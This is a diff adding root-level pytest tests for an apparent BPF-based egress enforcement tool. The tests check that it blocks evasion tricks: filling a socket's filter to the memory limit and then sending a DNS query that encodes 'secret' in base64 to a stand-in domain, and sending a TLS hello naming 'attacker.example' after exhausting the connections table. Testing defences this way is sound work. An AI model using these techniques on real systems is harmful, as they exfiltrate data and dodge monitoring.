@@ -10,9 +10,11 @@ from collections.abc import Iterator
 
 import pytest
 
+from kaizen_security.collectors.kernel.bpf import Map
 from kaizen_security.collectors.kernel.policy import Table, compile_rules
 from kaizen_security.collectors.kernel.shapes import Agent, Kind, Reason
 from kaizen_security.contract.declaration import Declaration
+from tests.e2e.sidecar_process import until
 from tests.kernel.test_enforce import CLIENT, NAMES
 from tests.kernel.world import RESOLVER, listener, question, resolver
 
@@ -182,3 +184,82 @@ for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"))
 """
     assert agent.python(CLIENT + code) == "0\n0\n"
     assert {e.reason for e in agent.events() if e.kind is Kind.CONNECT} == {Reason.PASSED_OWN}
+
+
+FULL = """
+def full(kind):
+    # A filter as large as a socket may have (optmem_max), so that there is no room on it for more: not for whose it is either.
+    def filtered(sock, wide, narrow):
+        words = struct.pack("=HBBI", 0x20, 0, 0, 0) * wide + struct.pack("=HBBI", 0, 0, 0, 0) * narrow  # BPF_LD: W ABS, IMM
+        code = ctypes.create_string_buffer(words + struct.pack("=HBBI", 6, 0, 0, 65535))
+        value = struct.pack("@HP", wide + narrow + 1, ctypes.addressof(code))
+        try: sock.setsockopt(socket.SOL_SOCKET, 26, value)
+        except OSError as err: return errno.errorcode[err.errno] != "ENOMEM"
+        return True
+    def most(fits, room):
+        low = 0
+        while low < room:
+            middle = (low + room + 1) // 2
+            with socket.socket(socket.AF_INET, kind) as sock: low, room = (middle, room) if fits(sock, middle) else (low, middle - 1)
+        return low
+    wide = most(lambda sock, n: filtered(sock, n, 0), 4000)
+    narrow = most(lambda sock, n: filtered(sock, wide, n), 4095 - wide)
+    sock = socket.socket(socket.AF_INET, kind)
+    assert filtered(sock, wide, narrow)
+    return sock
+"""
+
+
+@pytest.mark.root
+def test_a_socket_that_has_no_room_to_note_whose_it_is_asks_no_question(agent):
+    in_force(agent, Agent.ENFORCE | Agent.QUIC_SHUT)
+    code = f"""
+import ctypes
+sock = full({DATAGRAM})
+def asks():
+    sock.connect(("{RESOLVER}", 53)); sock.send({question("c2VjcmV0.at.example")!r}); return "sent"
+said(asks)
+"""
+    with resolver(NAMES) as asked:
+        assert (agent.python(CLIENT + FULL + code).strip(), asked) == ("EPERM", [])
+    assert agent.collector.counters()["lost_mark"] == 1
+
+
+FRONT = f"""
+def front():
+    sock = socket.create_connection(("127.0.0.2", 443)); sock.sendall(hello("attacker.example")); sock.shutdown(socket.SHUT_WR); return "sent"
+ask({question("api.example")!r}); said(front)
+"""
+
+
+def connections(agent) -> Map:
+    """The programs' table of connections: cookie of the socket, whose it is."""
+    return Map(agent.collector._maps["connections"], value=48)
+
+
+@pytest.mark.root
+def test_a_connection_has_its_hello_read_though_the_table_of_connections_is_full(agent):
+    rules = compile_rules(Declaration(destinations=("api.example",)), (), also=(f"{RESOLVER}:53",), limited=True)
+    Table(agent.collector, 0).put(rules, Agent.ENFORCE)
+    table = connections(agent)
+    with pytest.raises(OSError, match="Argument list too long"):
+        for cookie in range(1 << 62, (1 << 62) + (1 << 16)):
+            table.put(struct.pack("=Q", cookie), bytes(48))
+    with resolver(NAMES), listener("127.0.0.2", 443) as (_, heard):
+        assert agent.python(CLIENT + FRONT).strip() == "sent"
+    assert [data for data in heard if b"attacker" in data] == []
+    assert [e.reason for e in agent.events() if e.kind is Kind.HELLO] == [Reason.REFUSED_NAME]
+
+
+@pytest.mark.root
+def test_of_connections_that_are_gone_nothing_is_kept(agent):
+    code = """
+import socket
+for n in range(200):
+    with socket.create_connection(("127.0.0.2", int(sys.argv[1]))) as sock: sock.sendall(b"x"); sock.recv(1)
+"""
+    with listener("127.0.0.2") as (port, heard):
+        agent.python(CLIENT + code.replace("int(sys.argv[1])", str(port)))
+    assert len(heard) == 200
+    assert len([e for e in agent.events() if e.kind is Kind.CONNECT]) == 200
+    until(lambda: not list(connections(agent).keys(8)), "the end of the last connection")
